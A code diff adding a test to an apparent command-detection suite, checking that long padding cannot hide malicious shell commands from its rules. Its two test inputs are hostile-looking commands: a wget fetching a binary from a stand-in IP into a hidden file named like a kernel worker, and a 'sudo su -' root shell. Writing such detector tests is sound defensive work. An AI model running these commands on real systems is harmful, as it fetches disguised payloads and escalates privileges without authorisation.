@@ -136,3 +136,11 @@ describe('lookalikes stay quiet', () => {
     });
   }
 });
+
+describe('padding cannot use up the analysis budget', () => {
+  it('a 30,000-character unquoted word before the command hides nothing', () => {
+    const pad = 'A'.repeat(30_000);
+    expect(ruleIds([`export PAD=${pad}; wget http://203.0.113.66/x86_64/kworker -O .kw`])).toContain('sw-ioc-contact');
+    expect(ruleIds([`: ${pad} ${pad}; sudo su -`])).toContain(ROOT_SHELL);
+  });
+});
